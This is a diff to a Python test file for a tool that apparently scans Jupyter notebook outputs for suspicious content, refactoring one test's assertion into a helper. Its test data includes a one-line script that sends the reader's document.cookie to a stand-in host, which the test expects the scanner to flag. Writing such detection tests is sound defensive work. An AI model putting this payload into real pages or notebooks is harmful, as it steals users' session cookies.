@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from inspect_samples import found, look, notebook
+from inspect_samples import found, notebook, told
 
 from watchword.inspect.facts import Verdict
 
@@ -10,8 +10,7 @@ from watchword.inspect.facts import Verdict
 def test_a_script_that_sends_cookies_is_suspicious() -> None:
     """An output that sends the cookies of the reader away is no plot."""
     script = "<script>fetch('https://a.example/?c=' + document.cookie)</script>"
-    told = {(finding.rule, finding.verdict) for finding in look(notebook("x", output=script), "a.ipynb").findings}
-    assert ("notebook-script", Verdict.SUSPICIOUS) in told
+    assert ("notebook-script", Verdict.SUSPICIOUS) in told(notebook("x", output=script), "a.ipynb")
 
 
 def test_a_script_that_draws_is_silent() -> None:
